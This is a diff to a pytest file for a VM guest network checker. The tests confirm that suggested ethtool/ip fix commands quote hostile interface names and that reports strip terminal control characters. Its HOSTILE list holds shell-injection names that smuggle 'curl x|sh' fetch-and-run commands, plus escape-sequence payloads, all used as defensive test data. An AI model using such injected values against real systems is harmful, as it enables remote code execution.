@@ -26,7 +26,8 @@ from guestcheck.facts import (
     Virt,
 )
 from guestcheck.render.human import render
-from guestcheck.report import judge
+from guestcheck.report import build_report
+from tests.judged import with_recorded
 
 PAYLOAD = "curl x|sh"
 HOSTILE = ["eth0;curl x|sh;#", "e'$(curl x|sh)'", "eth0\ncurl x|sh", "`curl x|sh`", "eth0 && curl x|sh"]
@@ -69,7 +70,7 @@ def outside_quotes(fix: str) -> str:
 @pytest.mark.parametrize("name", HOSTILE)
 @pytest.mark.parametrize("hypervisor", ["kvm", "firecracker"])
 def test_no_hostile_name_escapes_its_quotes_in_any_fix(name, hypervisor):
-    findings, _ = run_checks(hostile_facts(name, hypervisor))
+    findings, _ = run_checks(*with_recorded(hostile_facts(name, hypervisor)))
     ids = {f.id for f in findings if f.subject == name and f.fix}
     assert ids >= {"OFFLOAD-GRO-OFF", "OFFLOAD-TSO-OFF", "SOFTIRQ-NO-RPS", "SOFTIRQ-NO-XPS", "BRIDGE-STP-ON",
                    "PATH-MTU-MISMATCH"}, ids
@@ -82,12 +83,12 @@ def test_no_hostile_name_escapes_its_quotes_in_any_fix(name, hypervisor):
 
 @pytest.mark.parametrize("name", HOSTILE)
 def test_pure_commands_give_the_name_back_as_one_word(name):
-    findings, _ = run_checks(hostile_facts(name))
+    findings, _ = run_checks(*with_recorded(hostile_facts(name)))
     fixes = {f.id: f.fix for f in findings}
     assert shlex.split(fixes["OFFLOAD-GRO-OFF"]) == ["ethtool", "-K", name, "gro", "on"]
     facts = hostile_facts(name)
     facts.nics[0].channels = Channels(max_combined=4, combined=1)
-    queues = {f.id: f.fix for f in run_checks(facts)[0]}
+    queues = {f.id: f.fix for f in run_checks(*with_recorded(facts))[0]}
     assert shlex.split(queues["QUEUES-FEWER-THAN-VCPUS"]) == ["ethtool", "-L", name, "combined", "2"]
     words = shlex.split(fixes["BRIDGE-STP-ON"])
     assert words[:3] == ["ip", "link", "set"] and words[3] == name
@@ -96,20 +97,20 @@ def test_pure_commands_give_the_name_back_as_one_word(name):
 
 
 def test_config_snippets_use_a_placeholder_for_a_name_that_needs_quoting():
-    fix = {f.id: f.fix for f in run_checks(hostile_facts("br;x"))[0]}
-    hint = {f.id: f.hint for f in run_checks(hostile_facts("br;x"))[0]}
+    fix = {f.id: f.fix for f in run_checks(*with_recorded(hostile_facts("br;x")))[0]}
+    hint = {f.id: f.hint for f in run_checks(*with_recorded(hostile_facts("br;x")))[0]}
     assert "iface BR)" in hint["BRIDGE-STP-ON"] and "<bridge name='BR'" in hint["BRIDGE-STP-ON"]
     assert hint["BRIDGE-STP-ON"].endswith("(BR: this bridge, whose name needs quoting)")
     # RPS is `guestcheck tune rps`, the name quoted; live only where no file can be named after the interface
     assert fix["SOFTIRQ-NO-RPS"] == "guestcheck tune rps 'br;x' --no-persist"
     assert "echo 3 > '/sys/class/net/br;x/queues/rx-0/rps_cpus'" in hint["SOFTIRQ-NO-RPS"]
-    plain = {f.id: f.fix for f in run_checks(hostile_facts("br0"))[0]}
-    plain_hint = {f.id: f.hint for f in run_checks(hostile_facts("br0"))[0]}
+    plain = {f.id: f.fix for f in run_checks(*with_recorded(hostile_facts("br0")))[0]}
+    plain_hint = {f.id: f.hint for f in run_checks(*with_recorded(hostile_facts("br0")))[0]}
     assert "iface br0)" in plain_hint["BRIDGE-STP-ON"] and plain["SOFTIRQ-NO-RPS"] == "guestcheck tune rps br0"
 
 
 @pytest.mark.parametrize("name", [*HOSTILE, "eth0\x1b]0;title\x07", "eth0\x1b[2J\u202e"])
 def test_the_human_report_shows_control_characters_and_never_sends_them(name):
-    text = render(judge(hostile_facts(name)), verbose=True)
+    text = render(build_report(hostile_facts(name)), verbose=True)
     assert all(line.isprintable() for line in text.splitlines()), text
     assert text.count("\n") == len(text.splitlines())
